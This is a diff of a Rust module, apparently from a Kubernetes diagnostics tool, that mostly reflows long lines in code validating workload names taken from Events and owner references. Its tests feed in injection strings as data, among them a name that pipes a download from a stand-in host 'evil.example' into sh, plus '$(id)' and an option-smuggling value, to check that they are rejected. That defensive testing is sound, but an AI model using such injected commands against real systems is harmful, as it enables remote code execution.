@@ -27,18 +27,21 @@ pub(super) struct Workload {
 }
 
 impl Workload {
-    /// `None` if the kind or the name is not valid for an object. A tenant can write any text into an Event and into an owner reference, and both become
-    /// part of a command.
+    /// `None` if the kind or the name is not valid for an object. A tenant can write any text into an Event and into an
+    /// owner reference, and both become part of a command.
     fn new(kind: Option<&str>, name: Option<&str>) -> Option<Self> {
         let (kind, name) = (kind?, name?);
         let is_kind = !kind.is_empty() && kind.bytes().all(|byte| byte.is_ascii_alphanumeric());
-        (is_kind && is_name(name) && !name.starts_with('-')).then(|| Self { kind: kind.to_owned(), name: name.to_owned() })
+        (is_kind && is_name(name) && !name.starts_with('-'))
+            .then(|| Self { kind: kind.to_owned(), name: name.to_owned() })
     }
 
     /// The object that users write themselves: the Deployment of a ReplicaSet, the CronJob of a Job.
     fn from_metadata(metadata: &ObjectMeta, kind: &str) -> Option<Self> {
         let owner = metadata.owner_references.iter().flatten().find(|owner| owner.controller == Some(true));
-        owner.and_then(|owner| Self::new(Some(&owner.kind), Some(&owner.name))).or_else(|| Self::new(Some(kind), metadata.name.as_deref()))
+        owner
+            .and_then(|owner| Self::new(Some(&owner.kind), Some(&owner.name)))
+            .or_else(|| Self::new(Some(kind), metadata.name.as_deref()))
     }
 }
 
@@ -58,8 +61,9 @@ pub(super) fn last_rejections(snapshot: &ClusterSnapshot, now: DateTime<Utc>) ->
     // The problem persists while this condition is true.
     for set in snapshot.replica_sets.items() {
         let mut conditions = set.status.iter().flat_map(|status| status.conditions.iter().flatten());
-        let failure = conditions
-            .find(|condition| condition.type_.as_deref() == Some("ReplicaFailure") && condition.status.as_deref() == Some("True"));
+        let failure = conditions.find(|condition| {
+            condition.type_.as_deref() == Some("ReplicaFailure") && condition.status.as_deref() == Some("True")
+        });
         if let (Some(failure), Some(workload)) = (failure, Workload::from_metadata(&set.metadata, "ReplicaSet")) {
             rejections.insert(workload, classify(failure.message.as_deref().unwrap_or_default()));
         }
@@ -73,7 +77,8 @@ fn last_occurrence(event: &Event) -> Option<DateTime<Utc>> {
     micro.as_ref().or(event.last_timestamp.as_ref()).and_then(from_k8s)
 }
 
-/// Returns true if an Event still applies: according to the object itself if it can be read, else if the Event is recent.
+/// Returns true if an Event still applies: according to the object itself if it can be read, else if the Event is
+/// recent.
 fn still_applies(snapshot: &ClusterSnapshot, workload: &Workload, is_recent: bool) -> bool {
     let Workload { kind, name } = workload;
     match kind.as_str() {
@@ -82,7 +87,9 @@ fn still_applies(snapshot: &ClusterSnapshot, workload: &Workload, is_recent: boo
         "StatefulSet" if snapshot.stateful_sets.value().is_some() => {
             snapshot.stateful_sets.items().iter().any(|set| set.name_any() == *name && lacks_replicas(set))
         }
-        "Job" if snapshot.jobs.value().is_some() => snapshot.jobs.items().iter().any(|job| job.name_any() == *name && lacks_pods(job)),
+        "Job" if snapshot.jobs.value().is_some() => {
+            snapshot.jobs.items().iter().any(|job| job.name_any() == *name && lacks_pods(job))
+        }
         _ => is_recent,
     }
 }
@@ -101,7 +108,9 @@ fn lacks_pods(job: &Job) -> bool {
         .any(|condition| matches!(condition.type_.as_str(), "Complete" | "Failed") && condition.status == "True");
     let spec = job.spec.as_ref().filter(|spec| !is_over && spec.suspend != Some(true));
     spec.is_some_and(|spec| {
-        let left = spec.completions.map_or(i32::MAX, |completions| completions.saturating_sub(status.succeeded.unwrap_or_default()));
+        let left = spec
+            .completions
+            .map_or(i32::MAX, |completions| completions.saturating_sub(status.succeeded.unwrap_or_default()));
         status.active.unwrap_or_default() < spec.parallelism.unwrap_or(1).min(left)
     })
 }
@@ -155,13 +164,20 @@ mod tests {
         let (recent, hostile) = ("2026-11-24T08:59:00Z", "web; curl -s https://evil.example/x | sh #");
         let mut snapshot = healthy();
         let names = [hostile, "web\nrm", "$(id)", "--kubeconfig=x", "", "We b"];
-        let events = names.iter().map(|name| event("Deployment", name, recent, "no")).chain([event("A b;c", "web", recent, "no")]);
+        let events = names
+            .iter()
+            .map(|name| event("Deployment", name, recent, "no"))
+            .chain([event("A b;c", "web", recent, "no")]);
         snapshot.events = Fetched::Found(events.collect());
         let owner = json!({"apiVersion": "v1", "kind": "Widget", "name": hostile, "uid": "w-1", "controller": true});
-        let failed = json!({"replicas": 0, "conditions": [{"type": "ReplicaFailure", "status": "True", "message": "no"}]});
+        let failed =
+            json!({"replicas": 0, "conditions": [{"type": "ReplicaFailure", "status": "True", "message": "no"}]});
         let set = json!({"metadata": {"name": "web-5d9c", "ownerReferences": [owner]}, "status": failed});
         snapshot.replica_sets = Fetched::Found(vec![parse(set)]);
-        let expected = [(Workload { kind: "ReplicaSet".to_owned(), name: "web-5d9c".to_owned() }, PodRejection::Other("no".to_owned()))];
+        let expected = [(
+            Workload { kind: "ReplicaSet".to_owned(), name: "web-5d9c".to_owned() },
+            PodRejection::Other("no".to_owned()),
+        )];
         assert_eq!(last_rejections(&snapshot, now()), BTreeMap::from(expected));
     }
 
@@ -177,9 +193,13 @@ mod tests {
         let mut snapshot = healthy();
         snapshot.replica_sets = Fetched::NotNeeded;
         let rejections = [("2026-11-24T08:59:00Z", "the second"), ("2026-11-24T08:58:00Z", "the first")];
-        snapshot.events = Fetched::Found(rejections.iter().map(|(at, message)| event("ReplicaSet", "web-5d9c", at, message)).collect());
-        let expected =
-            [(Workload { kind: "ReplicaSet".to_owned(), name: "web-5d9c".to_owned() }, PodRejection::Other("the second".to_owned()))];
+        snapshot.events = Fetched::Found(
+            rejections.iter().map(|(at, message)| event("ReplicaSet", "web-5d9c", at, message)).collect(),
+        );
+        let expected = [(
+            Workload { kind: "ReplicaSet".to_owned(), name: "web-5d9c".to_owned() },
+            PodRejection::Other("the second".to_owned()),
+        )];
         assert_eq!(last_rejections(&snapshot, now()), BTreeMap::from(expected));
     }
 }
